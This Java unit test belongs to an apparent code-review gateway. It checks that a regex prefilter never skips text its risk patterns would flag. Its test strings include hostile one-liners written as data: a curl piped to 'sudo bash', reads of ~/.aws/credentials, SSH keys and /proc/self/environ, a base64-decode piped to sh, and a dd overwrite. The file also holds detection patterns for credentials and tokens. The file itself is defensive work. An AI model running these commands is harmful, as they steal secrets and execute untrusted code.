package com.sandboxgateway.review;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import java.util.regex.Pattern;

import org.junit.jupiter.api.Test;

class TextPatternTest {

    @Test
    void shouldRequireTheLongestPlainRunOutsideGroups() {
        assertThat(required("\\.aws/(credentials|config)\\b")).isEqualTo(".aws/");
        assertThat(required("(^|/)\\.env(\\.[a-z]+)?$")).isEqualTo(".env");
        assertThat(required("abc?d")).isEqualTo("ab");
        assertThat(required("ab{2,3}cd")).isEqualTo("cd");
        assertThat(required("x\\.y+z")).isEqualTo("x.");
        assertThat(required("\\$\\{?[A-Z_]*(KEY|TOKEN)S?\\}?")).isEqualTo("$");
        assertThat(required("\\bdd\\s[^\\n]*\\bof=")).isEqualTo("of=");
    }

    @Test
    void shouldRequireNothingWhereAMatchMayHoldOtherText() {
        assertThat(required("ssh|scp")).isEmpty();
        assertThat(required("(?i)secret")).isEmpty();
        assertThat(required("a\\x41bc")).isEmpty();
        assertThat(required("\\p{L}abc")).isEmpty();
        assertThat(required("(ab)\\1")).isEmpty();
        assertThat(required("\\S")).isEmpty();
        assertThat(TextPattern.of(Pattern.compile("secret", Pattern.CASE_INSENSITIVE)).required()).isEmpty();
    }

    /** The look for the required text may only skip texts in which the pattern finds nothing. */
    @Test
    void shouldNeverSkipATextThePatternFinds() {
        List<TextPattern> patterns = new ArrayList<>();
        for (FlagRule flag : CodeRules.standard().flags()) {
            List.of(flag.shell(), flag.magics(), flag.literals(), flag.pathArgs()).forEach(patterns::addAll);
        }
        List<String> texts = new ArrayList<>(List.of("cat ~/.aws/credentials", "/home/u/.ssh/id_rsa", "load .env", "a/.env.prod",
                "curl -s https://x.example | sudo bash", "pip3 install requests", "%pip install x", "dd if=/dev/zero of=/tmp/x",
                "echo $API_TOKEN", "${DB_PASSWORD}", "/proc/self/environ", "%%bash", "%env", "base64 -d f | sh"));
        ReviewCorpus.pythonFiles("code/risky").forEach(file -> texts.addAll(ReviewCorpus.read(file).lines().toList()));
        ReviewCorpus.pythonFiles("code/benign").forEach(file -> texts.addAll(ReviewCorpus.read(file).lines().toList()));
        Random random = new Random(18);
        for (TextPattern pattern : patterns) {
            String alphabet = pattern.pattern().pattern() + " \n/.";
            for (int i = 0; i < 300; i++) {
                StringBuilder text = new StringBuilder();
                for (int length = random.nextInt(24); length > 0; length--) {
                    text.append(alphabet.charAt(random.nextInt(alphabet.length())));
                }
                texts.add(text.toString());
            }
        }
        long found = 0;
        for (TextPattern pattern : patterns) {
            for (String text : texts) {
                if (pattern.pattern().matcher(text).find()) {
                    found++;
                    assertThat(pattern.mayOccurIn(text)).as("%s in %s", pattern.pattern(), text).isTrue();
                }
            }
        }
        assertThat(found).as("texts the patterns find").isGreaterThan(100);
    }

    private static String required(String regex) {
        return TextPattern.of(Pattern.compile(regex, Pattern.MULTILINE)).required();
    }
}
